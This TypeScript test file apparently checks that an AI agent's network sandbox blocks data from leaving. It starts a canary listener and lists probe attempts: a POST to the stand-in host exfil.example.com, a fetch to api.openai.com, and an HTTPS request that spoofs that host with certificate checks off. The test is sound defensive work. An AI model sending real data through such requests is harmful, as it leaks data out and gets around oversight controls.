import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { exited, spawnChild } from '#lib';
import type { TestStack } from '../../e2e/harness.ts';
import { followLines } from './follow.ts';

const PORT = 7777;

/** A place no route admits: `attempts` are the ways an agent tries to get there, `touched` says whether anything arrived. */
export interface Canary extends AsyncDisposable {
  /** Steps of a probe. Each fails, or is refused. */
  readonly attempts: readonly object[];
  /** From outside of any sandbox, to show that the canary would see it. */
  reach(): Promise<unknown>;
  touched(): number;
}

export const startCanary = async (stack: TestStack): Promise<Canary> => {
  const file = join(stack.dir, 'canary.jsonl');
  await writeFile(file, '');
  const { fixtureIp, fixture } = stack.lab;
  const child = spawnChild(process.execPath, [join(import.meta.dirname, 'listener.ts'), String(PORT), file], {
    netns: fixture,
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await once(createInterface({ input: child.stdout! }), 'line');
  const read = followLines<{ from: string }>(file);
  let touched = 0;
  const secret = { method: 'POST', path: '/v1/files?canary', headers: { host: 'api.openai.com' }, body: 'canary', rejectUnauthorized: false };
  return {
    attempts: [
      { connect: { host: fixtureIp, port: PORT } },
      { https: { host: fixtureIp, servername: 'api.openai.com', ...secret } },
      { fetch: { url: 'https://api.openai.com/v1/files?canary', method: 'POST', body: 'canary' } },
      { fetch: { url: 'https://exfil.example.com/canary', method: 'POST', body: 'canary' } },
    ],
    reach: () => stack.client.request({ url: `http://${fixtureIp}:${PORT}/` }).catch((error: unknown) => error),
    touched: () => (touched += read().length),
    async [Symbol.asyncDispose]() {
      child.kill('SIGKILL');
      await exited(child);
    },
  };
};
